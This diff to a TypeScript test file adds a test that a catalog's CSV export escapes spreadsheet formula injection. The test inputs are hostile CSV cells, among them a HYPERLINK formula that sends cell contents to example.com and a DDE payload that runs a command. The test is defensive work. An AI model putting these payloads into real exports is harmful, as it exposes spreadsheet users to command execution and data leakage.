@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
 import { buildCatalog, type CatalogInput, pickCurrentCampaign } from '../../src/lib/catalog.ts';
 import {
@@ -219,6 +220,28 @@ describe('open data', () => {
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     expect(csv.trim().split('\r\n')).toHaveLength(1 + catalog.initiatives.length);
     expect(csv).toContain('Tên sáng kiến, giải pháp');
+  });
+  test.each([
+    '=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1,2)',
+    '\t=1+1',
+    '\r=1+1',
+  ])('CSV: a title %j is text, not a formula; numbers stay numbers', (title) => {
+    const hostile = buildCatalog({
+      ...input(),
+      initiatives: [initiative('doc-hai', { title, summary: '-1', submitted: '2024-08-03' })],
+    });
+    const [header, row] = parseCsv(toCsv(hostile.initiatives, cols, abs), {
+      bom: true,
+    }) as string[][];
+    const at = (key: string) => (row as string[])[cols.findIndex((col) => col.key === key)];
+    expect(header?.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+    expect(at('title')).toBe(`'${title}`);
+    expect(at('summary')).toBe("'-1");
+    expect(at('year')).toBe('2024');
+    expect(at('adoptions')).toBe('0');
   });
   test('JSON records carry every column key', () => {
     const [record] = toRecords(catalog.initiatives, cols, abs);
